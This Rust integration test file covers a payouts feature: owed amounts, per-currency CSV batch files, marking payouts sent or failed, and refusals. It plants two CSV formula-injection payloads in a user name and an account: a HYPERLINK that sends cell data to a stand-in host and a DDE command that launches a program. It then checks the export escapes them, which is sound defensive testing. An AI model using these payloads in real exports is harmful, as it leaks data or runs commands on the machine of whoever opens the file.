//! Developer payouts as finance meets them. From a script (the real binary, on SQLite and on
//! PostgreSQL): what each developer is owed per currency and the latest payouts, a batch
//! whose file holds one currency, names each payout by the id `mark-sent` takes and keeps a
//! hostile name or account from reaching a spreadsheet as a formula; a collection refused as
//! "not a payout". In the terminal (`:payouts`): what is owed above the payouts, a batch made
//! through a provider with its file under exports/, a pending payout marked sent and another
//! failed, and the refusals that come before any question.
//!
//! Update the snapshots after an intended change: `INSTA_UPDATE=always cargo test --test payouts`.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use chrono::Utc;
use common::ui::{Harness, demo_db};
use crossterm::event::{KeyCode, KeyModifiers};
use obryl::domain::Locale;
use obryl::office::format::money;
use obryl::office::payout_file::{self, ProviderOwed};
use obryl::seed::{SeedOptions, Size, seed};
use obryl::store::payouts::PayoutFilter;
use obryl::store::{self, Anchor, Db};
use obryl::ui::popup::Popup;
use obryl::ui::screens::TabId;
use obryl::ui::widgets::toast::Level;

const FINANCE: &str = "finance@obryl.test";
const SUPPORT: &str = "support@obryl.test";
/// Names and accounts a spreadsheet would run as formulas.
const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")";
const HOSTILE_ACCOUNT: &str = "=cmd|' /C calc'!A0";

// ---------------------------------------------------------------------------------------
// From a script, on both backends.
// ---------------------------------------------------------------------------------------

/// `obryl ARGS` on the database at `url`, with `dir` as the data directory, in `locale`, as
/// finance (its password in OBRYL_PASSWORD).
fn obryl(url: &str, dir: &Path, locale: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_obryl"))
        .arg("--database-url")
        .arg(url)
        .arg("--data-dir")
        .arg(dir)
        .args(["--locale", locale, "--as", FINANCE])
        .args(args)
        .env_remove("DATABASE_URL")
        .env_remove("OBRYL_DATABASE_URL")
        .env_remove("SSH_CLIENT")
        .env_remove("SSH_CONNECTION")
        .env("OBRYL_PASSWORD", "demo")
        .output()
        .expect("run obryl")
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn ok(o: &Output) -> String {
    assert_eq!(o.status.code(), Some(0), "{}", text(o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

async fn seeded(db: &Db) {
    let opts = SeedOptions {
        size: Size::Demo,
        seed: 42,
        anchor: Utc::now() - chrono::Duration::minutes(5),
    };
    seed(db, &opts, &|_, _, _| {}).await.expect("seed");
}

async fn exec(db: &Db, sql: &str, text: &str, id: i64) {
    match db {
        Db::Sqlite(p) => sqlx::query(sqlx::AssertSqlSafe(
            sql.replace("$1", "?").replace("$2", "?"),
        ))
        .bind(text)
        .bind(id)
        .execute(p)
        .await
        .map(drop),
        Db::Postgres(p) => sqlx::query(sqlx::AssertSqlSafe(sql.to_owned()))
            .bind(text)
            .bind(id)
            .execute(p)
            .await
            .map(drop),
        Db::MySql(p) => sqlx::query(sqlx::AssertSqlSafe(
            sql.replace("$1", "?").replace("$2", "?"),
        ))
        .bind(text)
        .bind(id)
        .execute(p)
        .await
        .map(drop),
    }
    .expect(sql);
}

/// A provider through which developers are owed in one currency only, and what it owes.
async fn one_currency_provider(db: &Db) -> ProviderOwed {
    let owed = payout_file::owed_now(&mut db.clone(), 100_000)
        .await
        .unwrap();
    let through = payout_file::per_provider(&owed);
    through
        .iter()
        .find(|p| through.iter().filter(|q| q.provider == p.provider).count() == 1)
        .cloned()
        .expect("the demo owes developers through a provider")
}

async fn collection_id(db: &Db) -> (i64, String) {
    let f = store::payments::Filter {
        directions: vec!["collection".into()],
        ..Default::default()
    };
    let p = store::payments::page(&mut db.clone(), &f, &Anchor::First, 1)
        .await
        .unwrap()
        .rows
        .remove(0);
    (p.id, p.status)
}

async fn payouts_of(db: &Db, batch: &str) -> Vec<store::payouts::PayoutRow> {
    let f = PayoutFilter {
        batch_id: Some(batch.into()),
        ..Default::default()
    };
    store::payouts::page_payouts(&mut db.clone(), &f, &Anchor::First, 1000)
        .await
        .unwrap()
        .rows
}

async fn batch_from_a_script(db: &Db, url: &str, dir: &Path) {
    let batch_of = one_currency_provider(db).await;
    let provider = batch_of.provider;
    let currency = batch_of.currency.clone();
    // One developer paid through it gets a name and an account a spreadsheet would run.
    let owed = payout_file::owed_now(&mut db.clone(), 100_000)
        .await
        .unwrap();
    let target = owed
        .iter()
        .find(|o| o.provider == Some(provider))
        .unwrap()
        .clone();
    exec(
        db,
        "UPDATE users SET name = $1 WHERE id = $2",
        HOSTILE_NAME,
        target.developer_id,
    )
    .await;
    exec(
        db,
        "UPDATE profiles SET payout_account = $1 WHERE user_id = $2 AND type = 'developer'",
        HOSTILE_ACCOUNT,
        target.developer_id,
    )
    .await;

    // What is owed, per developer and currency, then the latest payouts.
    let listed = ok(&obryl(url, dir, "en", &["payout", "list", "--json"]));
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    let listed = listed.as_array().unwrap();
    assert_eq!(
        listed.len(),
        owed.len(),
        "one line per developer and currency"
    );
    let line = listed
        .iter()
        .find(|l| l["developer_id"] == target.developer_id && l["currency"] == target.currency)
        .unwrap();
    assert_eq!(line["amount"], target.amount);
    let parts: i64 = line["projects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["amount"].as_i64().unwrap())
        .sum();
    assert_eq!(parts, target.amount, "the projects' parts add up");
    let out = ok(&obryl(url, dir, "en", &["payout", "list"]));
    assert!(
        out.contains("Owed to developers on the payable account"),
        "{out}"
    );
    assert!(
        out.contains(&money(target.amount, &target.currency, Locale::En)),
        "{out}"
    );
    assert!(out.contains("Latest payouts"), "{out}");
    assert!(!out.contains('\u{1b}'));
    let out = ok(&obryl(url, dir, "fr", &["payout", "list"]));
    assert!(
        out.contains("Dû aux développeurs sur le compte à payer"),
        "{out}"
    );
    assert!(out.contains("Derniers versements"), "{out}");
    assert!(
        out.contains(&money(target.amount, &target.currency, Locale::Fr)),
        "{out}"
    );

    // Asked for a currency nothing is owed in through the provider: no batch, nothing written.
    let payouts_before = store::payouts::page_payouts(
        &mut db.clone(),
        &PayoutFilter::default(),
        &Anchor::First,
        100_000,
    )
    .await
    .unwrap()
    .rows
    .len();
    let other = if currency == "EUR" { "XOF" } else { "EUR" };
    let o = obryl(
        url,
        dir,
        "en",
        &["payout", "batch", provider, "--currency", other],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        text(&o).contains(&format!("owed anything in {other}: no batch was made")),
        "{}",
        text(&o)
    );
    let payouts_after = store::payouts::page_payouts(
        &mut db.clone(),
        &PayoutFilter::default(),
        &Anchor::First,
        100_000,
    )
    .await
    .unwrap()
    .rows
    .len();
    assert_eq!(payouts_after, payouts_before, "no payout was made");

    // The batch, its file in the folder asked for: one currency, named with it.
    let files = dir.join("batches");
    let o = obryl(
        url,
        dir,
        "en",
        &[
            "payout",
            "batch",
            provider,
            "--currency",
            &currency,
            "--out",
            files.to_str().unwrap(),
            "--json",
        ],
    );
    let made: serde_json::Value = serde_json::from_str(&ok(&o)).unwrap();
    let batch = made["batch_id"].as_str().unwrap().to_owned();
    let written = made["files"].as_array().unwrap();
    assert_eq!(written.len(), 1, "one currency, one file: {made}");
    assert_eq!(written[0]["currency"], currency.as_str());
    assert_eq!(written[0]["payouts"], batch_of.payouts);
    assert_eq!(written[0]["total"], batch_of.total);
    let path = PathBuf::from(written[0]["path"].as_str().unwrap());
    assert_eq!(
        path,
        files.join(format!("{batch}.csv")),
        "the batch names its currency once"
    );
    let rows = payouts_of(db, &batch).await;
    assert_eq!(rows.len(), batch_of.payouts);
    assert!(
        rows.iter()
            .all(|r| r.status == "pending" && r.currency == currency)
    );

    let file = std::fs::read_to_string(&path).unwrap();
    let mut reader = csv::Reader::from_reader(file.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        payout_file::HEADER
    );
    let lines: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(lines.len(), rows.len(), "{file}");
    let mut ids: Vec<i64> = lines.iter().map(|l| l[0].parse().unwrap()).collect();
    ids.sort();
    let mut expected: Vec<i64> = rows.iter().map(|r| r.id).collect();
    expected.sort();
    assert_eq!(ids, expected, "each line names its payout by id");
    for l in &lines {
        assert_eq!(&l[6], currency.as_str());
        for cell in l.iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
    let hostile = lines
        .iter()
        .find(|l| l[2].contains("HYPERLINK"))
        .expect("the renamed developer is paid");
    assert_eq!(&hostile[2], format!("'{HOSTILE_NAME}").as_str());
    assert_eq!(&hostile[4], format!("'{HOSTILE_ACCOUNT}").as_str());

    // The batch in the history, by its id.
    let o = obryl(
        url,
        dir,
        "en",
        &["payout", "history", "--batch", &batch, "--json"],
    );
    let history: serde_json::Value = serde_json::from_str(&ok(&o)).unwrap();
    assert_eq!(history.as_array().unwrap().len(), rows.len());

    // A collection is not a payout: refused naming the rule, nothing written.
    let (collection, status) = collection_id(db).await;
    for args in [
        vec!["payout", "mark-sent", "", "--reference", "WAVE-X"],
        vec!["payout", "mark-failed", "", "--reason", "no"],
    ] {
        let id = collection.to_string();
        let args: Vec<&str> = args
            .iter()
            .map(|a| if a.is_empty() { id.as_str() } else { a })
            .collect();
        let o = obryl(url, dir, "en", &args);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        let said = String::from_utf8_lossy(&o.stderr);
        assert!(
            said.contains(&format!("Transaction #{collection} is not a payout")),
            "{said}"
        );
        assert!(!said.contains("already"), "{said}");
    }
    let o = obryl(
        url,
        dir,
        "fr",
        &[
            "payout",
            "mark-sent",
            &collection.to_string(),
            "--reference",
            "X",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("n'est pas un versement"), "{}", text(&o));
    let after = store::payments::get(&mut db.clone(), collection)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(after.status, status, "the collection is untouched");

    // A payout of the batch sent, another failed.
    let sent = rows[0].id.to_string();
    let out = ok(&obryl(
        url,
        dir,
        "en",
        &["payout", "mark-sent", &sent, "--reference", "PROV-OK-1"],
    ));
    assert!(
        out.contains(&format!("Payout #{sent} marked sent")),
        "{out}"
    );
    let row = store::payouts::payout(&mut db.clone(), rows[0].id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (row.status.as_str(), row.provider_reference.as_str()),
        ("succeeded", "PROV-OK-1")
    );
    if let Some(second) = rows.get(1) {
        let id = second.id.to_string();
        let out = ok(&obryl(
            url,
            dir,
            "en",
            &["payout", "mark-failed", &id, "--reason", "compte clos"],
        ));
        assert!(
            out.contains(&format!("Payout #{id} marked failed")),
            "{out}"
        );
        let row = store::payouts::payout(&mut db.clone(), second.id)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(row.status, "failed");
    }
    let v = obryl::office::escrow::verify(&mut db.clone())
        .await
        .unwrap();
    assert!(v.holds(), "{:?}", v.discrepancies);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_batch_from_a_script_writes_one_safe_file_per_currency() {
    {
        let (db, dir) = common::sqlite().await;
        eprintln!("-- sqlite");
        seeded(&db).await;
        let url = format!("sqlite://{}", dir.path().join("test.db").display());
        batch_from_a_script(&db, &url, dir.path()).await;
    }
    if let Some((db, url)) = common::postgres_empty().await {
        eprintln!("-- postgres");
        db.migrate().await.expect("migrate postgres");
        obryl::service::bootstrap::ensure_reference_data(&db)
            .await
            .expect("reference data");
        seeded(&db).await;
        let dir = tempfile::tempdir().unwrap();
        batch_from_a_script(&db, &url, dir.path()).await;
    }
    if let Some((db, url)) = common::mysql_empty().await {
        eprintln!("-- mysql");
        db.migrate().await.expect("migrate mysql");
        obryl::service::bootstrap::ensure_reference_data(&db)
            .await
            .expect("reference data");
        seeded(&db).await;
        let dir = tempfile::tempdir().unwrap();
        batch_from_a_script(&db, &url, dir.path()).await;
    }
}

// ---------------------------------------------------------------------------------------
// In the terminal.
// ---------------------------------------------------------------------------------------

async fn open(db: &Db, email: &str, locale: Locale, data_dir: Option<&Path>) -> Harness {
    let mut opts = common::ui::options(locale, TabId::Projects);
    opts.data_dir = data_dir.map(Path::to_path_buf);
    let mut h = Harness::with_options(db, email, opts).await;
    h.char(':').await;
    h.type_text("payouts").await;
    h.key(KeyCode::Enter).await;
    h
}

async fn open_payouts(db: &Db, locale: Locale, data_dir: Option<&Path>) -> Harness {
    let mut h = open(db, FINANCE, locale, data_dir).await;
    assert_eq!(h.app.tab, TabId::Payouts);
    h.pump_until("the payouts", |app| {
        !app.screens.payouts.list.rows.is_empty() && app.screens.payouts.owed.is_some()
    })
    .await;
    h
}

async fn filter(h: &mut Harness, text: &str) {
    h.char('/').await;
    h.key_mod(KeyCode::Char('u'), KeyModifiers::CONTROL).await;
    h.type_text(text).await;
    h.key(KeyCode::Enter).await;
    h.pump().await;
    assert!(h.app.popup.is_none(), "{text}: the filter is understood");
}

fn footer(text: &str) -> String {
    text.lines().last().unwrap_or_default().to_owned()
}

async fn success(h: &mut Harness, what: &str) -> String {
    h.pump_until(what, |app| app.toast.is_some()).await;
    let toast = h.app.toast.take().unwrap();
    assert_eq!(toast.level, Level::Success, "{what}: {}", toast.text);
    toast.text
}

async fn what_is_owed_above_the_payouts(locale: Locale, snapshot: &str) {
    let (db, _dir) = demo_db().await;
    let mut h = open_payouts(&db, locale, None).await;
    let rows = h.app.screens.payouts.list.rows.clone();
    assert!(rows.windows(2).all(|w| w[0].id > w[1].id), "newest first");
    let owed = h.app.screens.payouts.owed.clone().unwrap();
    assert!(!owed.is_empty(), "the demo owes developers");
    let text = h.render(120, 40);
    let first = &owed[0];
    assert!(
        text.contains(&money(first.amount, &first.currency, locale)),
        "{text}"
    );
    let latest = &rows[0];
    assert!(
        text.contains(&money(latest.amount, &latest.currency, locale)),
        "{text}"
    );
    // The footer offers mark sent / failed on a pending payout only.
    let (sent, failed) = match locale {
        Locale::En => ("mark sent", "mark failed"),
        Locale::Fr => ("marquer envoyé", "marquer échoué"),
    };
    let on_row = |pending: bool, footer: &str| {
        assert_eq!(footer.contains(sent), pending, "{footer}");
        assert_eq!(footer.contains(failed), pending, "{footer}");
    };
    on_row(latest.status == "pending", &footer(&text));
    insta::assert_snapshot!(snapshot, text);

    filter(&mut h, "status:succeeded").await;
    let text = h.render(120, 40);
    on_row(false, &footer(&text));
    filter(&mut h, "status:pending").await;
    assert!(
        !h.app.screens.payouts.list.rows.is_empty(),
        "the demo has pending payouts"
    );
    let text = h.render(120, 40);
    on_row(true, &footer(&text));

    // The detail: the payout, the transfers that paid it out, its batch.
    let row = h.app.screens.payouts.list.current().cloned().unwrap();
    h.key(KeyCode::Enter).await;
    h.pump_until("the detail", |app| {
        app.screens.payouts.detail.for_id == Some(row.id)
            && app.screens.payouts.detail.content.is_some()
    })
    .await;
    let text = h.render(120, 40);
    if let Some(batch) = &row.batch_id {
        assert!(text.contains(batch.as_str()), "{text}");
    }
}

#[tokio::test]
async fn finance_reads_what_is_owed_and_the_payouts_in_english() {
    what_is_owed_above_the_payouts(Locale::En, "payouts_en_120x40").await;
}

#[tokio::test]
async fn finance_reads_what_is_owed_and_the_payouts_in_french() {
    what_is_owed_above_the_payouts(Locale::Fr, "payouts_fr_120x40").await;
}

/// `N`: the provider (then the currency when it owes several), a confirmation naming the
/// payouts and their total in that currency; the batch is made and its file written under
/// exports/ in the data directory, where the toast says.
#[tokio::test]
async fn finance_makes_a_batch_and_is_told_where_its_file_is() {
    let (db, dir) = demo_db().await;
    let mut h = open_payouts(&db, Locale::En, Some(dir.path())).await;
    let through = payout_file::per_provider(h.app.screens.payouts.owed.as_ref().unwrap());
    h.char('N').await;
    h.pump_until("the providers", |app| {
        matches!(
            &app.popup,
            Some(Popup::Picker {
                options: Some(_),
                ..
            })
        )
    })
    .await;
    let Some(Popup::Picker {
        title,
        options: Some(options),
        ..
    }) = &h.app.popup
    else {
        unreachable!()
    };
    assert_eq!(title, "New payout batch: through which provider?");
    let first = &options[0].0;
    let chosen: Vec<&ProviderOwed> = through
        .iter()
        .filter(|p| {
            let name = obryl::office::words::provider(p.provider, Locale::En);
            first.starts_with(&format!("{name} ·"))
        })
        .collect();
    assert!(!chosen.is_empty(), "{first}");
    for p in &chosen {
        assert!(
            first.contains(&money(p.total, &p.currency, Locale::En)),
            "{first}"
        );
    }
    h.key(KeyCode::Enter).await;
    if chosen.len() > 1 {
        assert!(
            matches!(h.app.popup, Some(Popup::Picker { .. })),
            "the currency"
        );
        h.key(KeyCode::Enter).await;
    }
    let Some(Popup::Confirm { question, .. }) = &h.app.popup else {
        panic!("a confirmation: {:?}", h.app.popup.is_some())
    };
    let p = chosen[0];
    let payouts = match p.payouts {
        1 => "1 payout".to_string(),
        n => format!("{n} payouts"),
    };
    assert!(
        question.starts_with(&format!(
            "Make a payout batch through {} in {}: {payouts}, {} in total?",
            obryl::office::words::provider(p.provider, Locale::En),
            p.currency,
            money(p.total, &p.currency, Locale::En)
        )),
        "{question}"
    );
    h.char('y').await;
    let toast = success(&mut h, "the batch").await;
    let exports = dir.path().join("exports");
    let file = std::fs::read_dir(&exports)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|f| f.to_string_lossy().contains(&format!("-{}-", p.currency)))
        .expect("the batch file");
    assert!(toast.contains(&file.display().to_string()), "{toast}");
    assert!(toast.starts_with("Batch PO-"), "{toast}");
    let text = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text.lines().count(), p.payouts + 1, "{text}");
    // The new payouts are listed, pending.
    h.pump_until("the new payouts", |app| {
        app.screens.payouts.list.rows.first().is_some_and(|r| {
            r.provider == p.provider && r.status == "pending" && r.batch_id.is_some()
        })
    })
    .await;
}

/// `K` then `x` on pending payouts: the payments view's questions; the first is succeeded
/// under the reference typed, the second failed with its reason.
#[tokio::test]
async fn finance_marks_a_payout_sent_and_another_failed() {
    let (db, _dir) = demo_db().await;
    let mut h = open_payouts(&db, Locale::En, None).await;
    // Pending payouts of a batch made now (the demo's own may predate their transfers).
    h.char('N').await;
    h.pump_until("the providers", |app| {
        matches!(
            &app.popup,
            Some(Popup::Picker {
                options: Some(_),
                ..
            })
        )
    })
    .await;
    h.key(KeyCode::Enter).await;
    if matches!(h.app.popup, Some(Popup::Picker { .. })) {
        h.key(KeyCode::Enter).await;
    }
    h.char('y').await;
    success(&mut h, "the batch").await;
    filter(&mut h, "status:pending").await;
    let row = h.app.screens.payouts.list.current().cloned().unwrap();
    h.char('K').await;
    let Some(Popup::Prompt { title, .. }) = &h.app.popup else {
        panic!("the reference is asked first")
    };
    assert!(
        title.starts_with(&format!("Mark payout #{} (", row.id)),
        "{title}"
    );
    h.key_mod(KeyCode::Char('u'), KeyModifiers::CONTROL).await;
    h.type_text("WAVE-SENT-1").await;
    h.key(KeyCode::Enter).await;
    h.pump_until("the confirmation", |app| {
        matches!(app.popup, Some(Popup::Confirm { .. }))
    })
    .await;
    let Some(Popup::Confirm { question, .. }) = &h.app.popup else {
        unreachable!()
    };
    assert!(
        question.contains(&money(row.amount, &row.currency, Locale::En)),
        "{question}"
    );
    h.char('y').await;
    success(&mut h, "sent").await;
    let after = store::payouts::payout(&mut db.clone(), row.id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (after.status.as_str(), after.provider_reference.as_str()),
        ("succeeded", "WAVE-SENT-1")
    );

    // It left the list of open payouts: the cursor is on nothing, never on the next one,
    // until the person moves onto it.
    h.pump_until("the list without it", |app| {
        app.screens.payouts.list.rows.iter().all(|r| r.id != row.id)
    })
    .await;
    assert_eq!(h.app.screens.payouts.list.current(), None);
    h.char('j').await;
    let other = h.app.screens.payouts.list.current().cloned().unwrap();
    assert_eq!(other.status, "pending");
    h.char('x').await;
    h.pump_until("the reason", |app| {
        matches!(app.popup, Some(Popup::Compose { .. }))
    })
    .await;
    h.type_text("compte clôturé").await;
    h.key_mod(KeyCode::Char('s'), KeyModifiers::CONTROL).await;
    let toast = success(&mut h, "failed").await;
    assert!(toast.contains(&format!("#{}", other.id)), "{toast}");
    let after = store::payouts::payout(&mut db.clone(), other.id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(after.status, "failed");
    let v = obryl::office::escrow::verify(&mut db.clone())
        .await
        .unwrap();
    assert!(v.holds(), "{:?}", v.discrepancies);
}

/// A payout the provider answered for already: refused at once naming its status.
#[tokio::test]
async fn a_succeeded_payout_is_refused_before_any_question() {
    let (db, _dir) = demo_db().await;
    let mut h = open_payouts(&db, Locale::En, None).await;
    filter(&mut h, "status:succeeded").await;
    let row = h.app.screens.payouts.list.current().cloned().unwrap();
    for key in ['K', 'x'] {
        h.char(key).await;
        assert!(h.app.popup.is_none(), "nothing opens");
        let toast = h.app.toast.take().expect("a refusal");
        assert_eq!(toast.level, Level::Error);
        assert_eq!(
            toast.text,
            format!(
                "Payout #{} is succeeded: only a pending payout is marked sent or failed.",
                row.id
            )
        );
    }
}

/// Support does not hold escrow.release: the view does not open, and says why.
#[tokio::test]
async fn support_is_refused_the_payouts_view_naming_escrow_release() {
    let (db, _dir) = demo_db().await;
    let h = open(&db, SUPPORT, Locale::En, None).await;
    assert_ne!(h.app.tab, TabId::Payouts);
    let text = h
        .app
        .last_error
        .clone()
        .or(h.app.toast.as_ref().map(|t| t.text.clone()))
        .unwrap_or_default();
    assert!(text.contains("escrow.release"), "{text}");
}

/// `b` on a payout lists every payout of its batch (the filter says which), the others gone.
#[tokio::test]
async fn b_lists_the_payouts_of_the_same_batch() {
    let (db, _dir) = demo_db().await;
    let mut h = open_payouts(&db, Locale::En, None).await;
    let batch = h
        .app
        .screens
        .payouts
        .list
        .current()
        .and_then(|r| r.batch_id.clone())
        .expect("the newest payout belongs to a batch");
    let screen = h.render(220, 45);
    let footer = screen.lines().last().unwrap_or_default();
    assert!(footer.contains("b the payouts of this batch"), "{footer}");
    h.char('b').await;
    h.pump().await;
    let rows = &h.app.screens.payouts.list.rows;
    assert!(!rows.is_empty());
    assert!(
        rows.iter()
            .all(|r| r.batch_id.as_deref() == Some(batch.as_str()))
    );
    let filter = obryl::ui::screens::ListScreen::filter_text(&h.app.screens.payouts);
    assert_eq!(filter, format!("batch:{batch}"));
}
